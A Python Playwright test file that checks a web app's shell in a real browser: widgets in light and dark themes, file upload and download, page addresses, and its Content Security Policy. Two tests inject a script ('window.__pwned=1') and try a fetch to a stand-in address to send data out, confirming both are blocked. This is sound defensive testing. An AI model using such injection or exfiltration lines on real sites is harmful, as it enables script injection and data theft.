"""The app's shell in a real browser: everything works under its policy, offline, in both themes."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page

from tests.helpers.browser import App, Watch, inject, saved, settled, visit

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def widgets(serve: Callable[[Path], App]) -> App:
    return serve(Path(__file__).with_name("widgets_app.py"))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_kind_of_element_works_under_the_policy(
    new_page: Callable[..., Page], widgets: App, scheme: str
) -> None:
    page = visit(new_page(color_scheme=scheme), widgets.origin)
    page.get_by_text("bytes 1 2 3").wait_for()
    page.locator(".js-plotly-plot .heatmaplayer").wait_for()
    page.locator('[data-testid="stDataFrame"] canvas').first.wait_for()
    page.locator('[data-testid="stVegaLiteChart"]').wait_for()
    page.locator(".katex").first.wait_for()
    picture = page.locator('[data-testid="stImage"] img').element_handle()
    page.wait_for_function("(image) => image.naturalWidth === 8", arg=picture)
    icon = page.eval_on_selector('link[rel~="icon"]', "(link) => link.href")
    assert icon.startswith("data:image/svg+xml")
    background = page.eval_on_selector(
        '[data-testid="stApp"]', "(one) => getComputedStyle(one).backgroundColor"
    )
    assert background == {"light": "rgb(251, 250, 247)", "dark": "rgb(20, 20, 26)"}[scheme]
    fonts = page.eval_on_selector("h1", "(one) => getComputedStyle(one).fontFamily")
    assert "Source Serif" in fonts


def test_a_file_goes_up_and_another_comes_down(page: Page, widgets: App) -> None:
    visit(page, widgets.origin)
    file = {"name": "some.txt", "mimeType": "text/plain", "buffer": b"its content"}
    page.locator('input[type="file"]').set_input_files(file)  # type: ignore[arg-type]
    page.get_by_text("Read its content").wait_for()
    settled(page)
    given = saved(page, "Download", exact=True)
    assert Path(given.path()).read_text(encoding="utf-8") == "the file's text"


def test_a_script_in_the_page_does_not_run(page: Page, widgets: App, watch: Watch) -> None:
    """The policy is the second line of defence: should markup ever get in, it stays markup."""
    visit(page, widgets.origin)
    inject(page)
    page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.__pwned=1'}))"
    )
    assert page.evaluate("window.__pwned") is None
    assert any("Content Security Policy" in error for error in watch.errors)
    watch.errors.clear()


def test_nothing_can_be_sent_elsewhere(page: Page, widgets: App, watch: Watch) -> None:
    visit(page, widgets.origin)
    send = "() => fetch('http://192.0.2.1/?text').then(() => 'sent', (error) => error.name)"
    assert page.evaluate(send) == "TypeError"
    # Refused by the page's own policy, before any request.
    assert watch.foreign == []
    watch.errors.clear()


def test_every_page_has_an_address_the_front_page_too(page: Page, app: App) -> None:
    visit(page, f"{app.origin}/tokens")
    page.get_by_role("heading", name="Tokens", exact=True).wait_for()
    visit(page, f"{app.origin}/attention?show=head-view")
    page.locator('iframe[src*="/bertviz/"]').wait_for()
    assert page.get_by_text("Page not found").count() == 0
